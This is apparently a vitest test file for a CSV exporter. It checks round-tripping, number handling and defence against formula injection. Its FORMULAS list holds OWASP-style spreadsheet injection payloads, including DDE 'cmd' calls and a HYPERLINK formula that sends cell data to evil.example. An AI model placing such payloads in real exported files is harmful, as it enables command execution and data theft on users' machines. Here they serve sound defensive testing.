import { describe, expect, it } from 'vitest';
import { toCsv } from './csv.js';

/** A reader of RFC 4180, letter by letter. */
function parse(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const letter = text[i]!;
    if (quoted) {
      if (letter !== '"') field += letter;
      else if (text[i + 1] === '"') field += text[(i += 1)]!;
      else quoted = false;
    } else if (letter === '"' && field === '') quoted = true;
    else if (letter === ',' || (letter === '\r' && text[i + 1] === '\n')) {
      record.push(field);
      field = '';
      if (letter === '\r') {
        records.push(record);
        record = [];
        i += 1;
      }
    } else if (letter === '"' || letter === '\r' || letter === '\n')
      throw new Error(`A bare ${JSON.stringify(letter)} at ${i}`);
    else field += letter;
  }
  if (quoted || field !== '' || record.length > 0) throw new Error('The last record does not end.');
  return records;
}

const read = (csv: string) => parse(csv.slice(1));

// What spreadsheets have been seen to run, and ways to hide it (OWASP, CSV injection).
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '-2+3+cmd|calc!A0',
  '@SUM(1+1)*cmd|calc!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '\t',
  '\rx',
  '=',
  '+',
  '-',
  '@',
  '--5',
  '-5-5',
  '+1.5e3+A1',
  '=1","=2',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
];

describe('a table as CSV', () => {
  it('begins with a byte order mark, and ends every record with CRLF', () => {
    expect(
      toCsv([
        ['a', 'b'],
        [1, null],
      ]),
    ).toBe('\uFEFFa,b\r\n1,\r\n');
  });

  it('is read back as it was, whatever is in its cells', () => {
    const cells = [
      '',
      ' ',
      'a',
      'a,b',
      '"',
      '""',
      'a"b',
      '\r\n',
      'a\nb',
      'a\rb',
      ',',
      ', "',
      'é',
      '字',
      '😀',
      ' x ',
      "'",
      '5-',
      'a=b',
      'x@y.example',
    ];
    const rows = cells.map((cell, i) => [cell, cells[(i * 7) % cells.length]!, cells[(i * 11) % cells.length]!]);
    expect(read(toCsv(rows))).toEqual(
      rows.map((row) => row.map((cell) => (/^\s*[\t\r]/.test(cell) ? `'${cell}` : cell))),
    );
  });

  it('has nothing in place of a number that is not known', () => {
    expect(read(toCsv([[null, NaN, Infinity, 0]]))).toEqual([['', '', '', '0']]);
  });

  it.each([0, -5, 2.5, -0.001, 1e21, 9007199254740991, -1e-7])('leaves the number %d as it is', (number) => {
    expect(Number(read(toCsv([[number]]))[0]![0])).toBe(number);
  });

  it.each(['-5', '+5', '-2.5', '12', '0'])('leaves the text %s, which is a number, as it is', (text) => {
    expect(read(toCsv([[text]]))).toEqual([[text]]);
  });

  it.each(FORMULAS)('leads %j, which a spreadsheet could run, with an apostrophe', (formula) => {
    expect(read(toCsv([['a', formula, 'b']]))).toEqual([['a', `'${formula}`, 'b']]);
  });

  it('lets no text break out of its cell', () => {
    for (const formula of FORMULAS) {
      const rows = read(toCsv([[`x","${formula}`, `x\r\n${formula}`, `"\n${formula}`]]));
      expect(rows).toHaveLength(1);
      expect(rows[0]).toHaveLength(3);
    }
  });
});
